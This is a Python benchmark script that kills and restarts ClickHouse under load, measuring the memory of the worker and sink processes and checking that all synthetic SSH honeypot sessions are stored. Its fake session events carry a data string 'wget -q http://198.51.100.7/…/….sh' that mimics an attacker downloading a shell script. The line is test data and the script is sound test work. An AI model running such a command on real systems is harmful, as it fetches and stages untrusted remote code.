"""ClickHouse away under load: how much memory worker and sink take, and whether all arrives afterwards.

    .venv/bin/python -m bench.outage [--rate 20000] [--minutes 5]

Starts an embedded broker and ClickHouse, a worker and a sink, each a process of its own. Sessions of ten records (a
connect, eight events, a disconnect) are published at the rate; after ten seconds ClickHouse is ended with SIGKILL and
started again after so many minutes. Prints the memory of worker and sink every ten seconds, their peaks, and when
everything was stored.
"""

import argparse
import asyncio
import os
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import clickhouse_connect
import msgspec
from clickhouse_connect.driver.client import Client

from deploy.addresses import Address
from deploy.configuration import environment_for_children
from deploy.embedded.broker import broker_answers, prepare_broker
from deploy.embedded.clickhouse import clickhouse_answers, prepare_clickhouse
from deploy.lifetimes import first_answer
from deploy.schema import apply_tables
from producers.kafka.epochs import apply_topics
from producers.kafka.publisher import Item, Publisher, partition_of
from schemas.settings import Settings, load
from schemas.topics import CONNECTIONS_IN, EVENTS
from tests.stack import free_port

_EVENTS = 8
_STEP = 0.1
_encode = msgspec.json.Encoder().encode


def session_of(run: str, number: int, now: float) -> tuple[bytes, list[bytes], list[bytes]]:
    """Key, connection records and events of one session."""
    name = f"{run}{number:08x}"
    sensor = f"ssh-{number % 20}"
    place = {
        "sensor": sensor,
        "session_id": name,
        "protocol": "ssh",
        "client_ip": f"203.0.{number % 250}.{number % 199}",
        "client_port": 1024 + number % 60_000,
    }
    ends = [_encode({**place, "action": action, "time": now}) for action in ("connect", "disconnect")]
    events = [
        _encode(
            {**place, "time": now, "kind": "command", "data": f"wget -q http://198.51.100.7/{each}/{number:08d}.sh"}
        )
        for each in range(_EVENTS)
    ]
    return _encode((sensor, name)), ends, events


async def load_for(settings: Settings, run: str, rate: int, seconds: float) -> int:
    """Publish sessions at ``rate`` records a second; how many sessions."""
    partitions = settings.kafka.partitions
    count = 0
    begin = time.monotonic()
    async with Publisher(settings.kafka) as publisher:
        while (elapsed := time.monotonic() - begin) < seconds:
            due = int((elapsed + _STEP) * rate / (_EVENTS + 2))
            batches: dict[tuple[str, int], list[Item]] = {}
            for number in range(count, due):
                key, ends, events = session_of(run, number, time.time())
                partition = partition_of(key, partitions)
                batches.setdefault((CONNECTIONS_IN, partition), []).extend((key, one, ()) for one in ends)
                batches.setdefault((EVENTS, partition), []).extend((key, one, ()) for one in events)
            futures = []
            for place, items in batches.items():
                futures += await publisher.send_batch(*place, items)
            await asyncio.gather(*futures)
            count = max(count, due)
            await asyncio.sleep(max(0.0, begin + count * (_EVENTS + 2) / rate - _STEP - time.monotonic()))
    return count


class Process:
    """A worker or a sink, and its memory."""

    def __init__(self, name: str, settings: Settings, environment: dict[str, str], folder: Path) -> None:
        self.name = name
        log = (folder / f"{name}.log").open("wb")
        self._process = subprocess.Popen(
            [sys.executable, "-m", "deploy", name], env=environment, stdout=log, stderr=subprocess.STDOUT
        )

    def mebibytes(self, field: str = "VmRSS") -> int:
        """Its memory now, or with ``VmHWM`` at its highest."""
        for line in Path(f"/proc/{self._process.pid}/status").read_text().splitlines():
            if line.startswith(field):
                return int(line.split()[1]) // 1024
        return 0

    def end(self) -> None:
        self._process.terminate()
        self._process.wait(30)


def _found(client: Client) -> tuple[int, int]:
    """Events stored, and sessions that are closed with all their events."""
    [(events,)] = client.query("SELECT count() FROM events").result_rows
    whole = f"SELECT count() FROM sessions_current WHERE state = 'closed' AND event_count = {_EVENTS + 2}"  # noqa: S608
    [(sessions,)] = client.query(whole).result_rows
    return events, sessions


async def _until_found(client: Client, expected: tuple[int, int]) -> tuple[int, int]:
    """Wait ten minutes at most; what was found in the end."""
    deadline = time.monotonic() + 600
    found = _found(client)
    while found != expected and time.monotonic() < deadline:
        await asyncio.sleep(0.5)
        found = _found(client)
    return found


async def measure(rate: int, minutes: float, folder: Path) -> None:
    base, listed = load({"data": str(folder)}, {})
    kafka, http = Address("127.0.0.1", free_port()), Address("127.0.0.1", free_port())
    broker = prepare_broker(kafka, folder / "logs")
    store = prepare_clickhouse(folder, http, free_port(), base, folder / "logs")
    settings, listed = load(
        {
            "data": str(folder),
            "kafka.bootstrap": str(kafka),
            "clickhouse.url": store.url,
            "clickhouse.writer_password": store.passwords.writer,
        },
        {},
    )
    processes: list[Process] = []

    async def started() -> None:
        store.child.start()
        await first_answer(store.child, lambda: clickhouse_answers(store))

    try:
        broker.start()
        await first_answer(broker, lambda: broker_answers(kafka))
        await started()
        apply_tables(settings)
        await apply_topics(settings.kafka)
        environment = {**environment_for_children(listed), "PATH": os.environ["PATH"]}
        processes += [Process(name, settings, environment, folder) for name in ("process", "sink")]
        client = clickhouse_connect.get_client(
            dsn=store.url, username="writer", password=store.passwords.writer, database="sojourn"
        )
        # Without ClickHouse neither would begin: they do once the first sessions are stored.
        first = await load_for(settings, uuid.uuid4().hex[:6], 100, 1)
        await _until_found(client, (first * (_EVENTS + 2), first))
        run = uuid.uuid4().hex[:6]
        begin = time.monotonic()
        away = minutes * 60

        async def watch() -> None:
            while True:
                await asyncio.sleep(10)
                sizes = ", ".join(f"{one.name} {one.mebibytes()} MiB" for one in processes)
                print(f"  {time.monotonic() - begin:4.0f} s: {sizes}", flush=True)

        async def outage() -> None:
            await asyncio.sleep(10)
            store.child.kill()
            store.child.wait(10)
            print(f"  {time.monotonic() - begin:4.0f} s: ClickHouse is gone", flush=True)
            await asyncio.sleep(away)
            await started()
            print(f"  {time.monotonic() - begin:4.0f} s: ClickHouse is back", flush=True)

        watching = asyncio.create_task(watch())
        ending = asyncio.create_task(outage())
        sessions = await load_for(settings, run, rate, away + 20)
        await ending
        print(f"{sessions * (_EVENTS + 2)} records published in {away + 20:.0f} s", flush=True)
        expected = ((first + sessions) * (_EVENTS + 2), first + sessions)
        begun = time.monotonic()
        found = await _until_found(client, expected)
        watching.cancel()
        print(f"expected {expected}, found {found}, {time.monotonic() - begun:.0f} s after the load ended")
        print("at most: " + ", ".join(f"{one.name} {one.mebibytes('VmHWM')} MiB" for one in processes))
    finally:
        for one in processes:
            one.end()
        for child in (broker, store.child):
            child.kill()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rate", type=int, default=20_000)
    parser.add_argument("--minutes", type=float, default=5.0)
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="sojourn-outage-") as folder:
        asyncio.run(measure(options.rate, options.minutes, Path(folder)))


if __name__ == "__main__":
    main()
